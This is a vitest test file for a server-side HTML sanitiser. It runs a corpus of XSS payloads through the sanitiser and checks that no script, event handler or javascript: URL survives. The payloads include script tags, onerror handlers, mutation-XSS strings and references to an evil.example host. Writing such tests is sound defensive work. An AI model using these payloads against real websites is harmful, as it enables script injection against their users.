import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { sanitizeOnServer } from '../../../server/views/template-html'

// The XSS corpus of issue 9: what a pasted body or a typed field may carry. After sanitising nothing may run.
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<svg onload=alert(1)><circle r="4"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<form action="https://evil.example"><input name="p"><button>Go</button></form>',
  '<p>broken <b>markup <i>never <u>closed',
  '<<script>alert(1)//<</script>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '"><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

function executable(html: string): string[] {
  const { document } = new JSDOM(`<body>${html}</body>`).window
  const problems: string[] = []
  for (const element of Array.from(document.body.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase()
    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'base', 'meta', 'a'].includes(tag))
      problems.push(`<${tag}>`)
    for (const attribute of Array.from(element.attributes)) {
      if (/^on/i.test(attribute.name)) problems.push(`${tag}[${attribute.name}]`)
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute.name.toLowerCase())) {
        // Browsers ignore whitespace and control characters inside a scheme, so the check does too.
        const value = [...attribute.value]
          .filter((ch) => ch.charCodeAt(0) > 32)
          .join('')
          .toLowerCase()
        if (
          value.startsWith('javascript:') ||
          (value.startsWith('data:') && !value.startsWith('data:image/'))
        )
          problems.push(`${tag}[${attribute.name}=${value.slice(0, 20)}]`)
      }
    }
  }
  return problems
}

describe('template html policy (DOMPurify over jsdom, as on save)', () => {
  it.each(CORPUS)('leaves nothing executable in %s', (payload) => {
    const clean = sanitizeOnServer(`<p>Hello</p>${payload}<p>Bye</p>`)
    expect(executable(clean)).toEqual([])
    expect(clean).toContain('Hello')
  })

  it('turns links into spans that keep the address, and keeps ordinary email markup', () => {
    const clean = sanitizeOnServer(
      '<table style="width:100%"><tr><td><p style="color:#333">Review the <a href="https://portal.example/policy?a=1&amp;b=2">updated policy</a>.</p><img src="https://cdn.example/logo.png" alt="Logo"></td></tr></table>',
    )
    expect(clean).toContain(
      '<span aria-label="https://portal.example/policy?a=1&amp;b=2">updated policy</span>',
    )
    expect(clean).toContain('<img src="https://cdn.example/logo.png" alt="Logo">')
    expect(clean).toContain('style="color:#333"')
    expect(clean).not.toContain('<a ')
  })

  it('survives a 5 MB body', () => {
    const body = `<p>${'Please confirm your account details. '.repeat(140_000)}</p>`
    expect(body.length).toBeGreaterThan(5_000_000)
    const clean = sanitizeOnServer(body)
    expect(clean.length).toBeGreaterThan(5_000_000)
  })
})
